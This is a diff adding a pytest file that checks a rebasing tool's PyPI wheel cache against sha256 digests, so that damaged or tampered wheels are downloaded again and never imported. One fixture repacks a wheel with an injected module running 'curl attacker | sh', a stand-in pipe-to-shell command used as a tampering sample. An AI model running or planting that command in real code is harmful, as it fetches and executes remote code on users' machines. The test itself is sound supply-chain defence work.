@@ -1,0 +1,88 @@
+"""The PyPI cache is verified: each wheel's sha256 comes from the index when it is downloaded
+and is checked again before the wheel is imported; a truncated, corrupted or repacked cached
+wheel is removed and downloaded again (and rebaser says so), never imported or tagged."""
+
+from __future__ import annotations
+
+import zipfile
+from pathlib import Path
+
+import pytest
+from fake_pypi import wheel_bytes, wheel_name
+
+from rebaser.errors import ExitCode
+from rebaser.upstream import pypi_cache
+
+VERSION = "9.9.0"
+
+
+def wheel_path(fake_wheels: Path) -> Path:
+    return fake_wheels / wheel_name(VERSION)
+
+
+def materialise_in_fresh_cache(tmp_path, monkeypatch, name: str):
+    """Materialise in a new cache folder sharing the wheel folder (as DSA_FORKKIT_WHEELS does)."""
+    monkeypatch.setenv("DSA_FORKKIT_CACHE", str(tmp_path / name))
+    cache = pypi_cache("megatron-core")
+    return cache, cache.materialise(VERSION)
+
+
+def test_download_records_the_index_sha256_and_the_commit_names_it(tmp_path, fake_pypi):
+    import hashlib
+
+    cache = pypi_cache("megatron-core")
+    release = cache.materialise(VERSION)
+    digest = hashlib.sha256(fake_pypi.wheels[VERSION]).hexdigest()
+    wheel = wheel_path(tmp_path / "fake-wheels")
+    assert (wheel.parent / (wheel.name + ".sha256")).read_text().strip() == digest
+    assert f"sha256 {digest}" in cache.git.out("log", "-1", "--format=%B", release.sha)
+    assert cache.materialise(VERSION) == release and fake_pypi.downloads == [VERSION]
+
+
+def truncate(wheel: Path) -> None:
+    wheel.write_bytes(wheel.read_bytes()[: wheel.stat().st_size // 2])
+
+
+def corrupt_a_member(wheel: Path) -> None:
+    """Flip bytes inside compressed data: the zip directory is intact, inflating fails."""
+    data = bytearray(wheel.read_bytes())
+    with zipfile.ZipFile(wheel) as archive:
+        info = archive.getinfo("megatron/core/calc.py")
+    start = info.header_offset + 30 + len(info.filename) + 2
+    data[start : start + 8] = b"\xff" * 8
+    wheel.write_bytes(bytes(data))
+
+
+def repack_with_injected_code(wheel: Path) -> None:
+    injected = {"megatron/core/evil.py": "import os\nos.system('curl attacker | sh')\n"}
+    wheel.write_bytes(wheel_bytes(VERSION, extra=injected))
+
+
+@pytest.mark.parametrize("damage", [truncate, corrupt_a_member, repack_with_injected_code])
+@pytest.mark.parametrize("recorded", [True, False], ids=["recorded", "no-record"])
+def test_a_damaged_cached_wheel_is_downloaded_again_never_imported(
+    tmp_path, monkeypatch, capsys, fake_pypi, damage, recorded
+):
+    _, clean = materialise_in_fresh_cache(tmp_path, monkeypatch, "cache-a")
+    wheel = wheel_path(tmp_path / "fake-wheels")
+    damage(wheel)
+    if not recorded:  # e.g. a wheel cached by an older rebaser, or by pip
+        (wheel.parent / (wheel.name + ".sha256")).unlink()
+    capsys.readouterr()
+    cache, again = materialise_in_fresh_cache(tmp_path, monkeypatch, "cache-b")
+    assert again.sha == clean.sha  # the genuine release, byte for byte
+    files = cache.git.out("ls-tree", "-r", "--name-only", again.sha).splitlines()
+    assert "megatron/core/evil.py" not in files and "megatron/core/calc.py" in files
+    err = capsys.readouterr().err
+    assert f"the cached {wheel.name} is not" in err and "downloading it again" in err
+    assert fake_pypi.downloads == [VERSION, VERSION]
+    assert wheel.read_bytes() == fake_pypi.wheels[VERSION]
+
+
+def test_an_index_serving_altered_bytes_is_refused(rebaser, tmp_path, fake_pypi):
+    fake_pypi.listed[VERSION] = "0" * 64  # the file served no longer matches the index
+    result = rebaser("apply", "--upstream", f"pypi:megatron-core=={VERSION}", "--test", "none")
+    assert result.code == ExitCode.ENVIRONMENT, result.err
+    assert "does not match the sha256 PyPI lists" in result.err
+    assert not list((tmp_path / "fake-wheels").glob("*.whl"))  # nothing half-trusted is kept
+    assert pypi_cache("megatron-core").cached(VERSION) is None
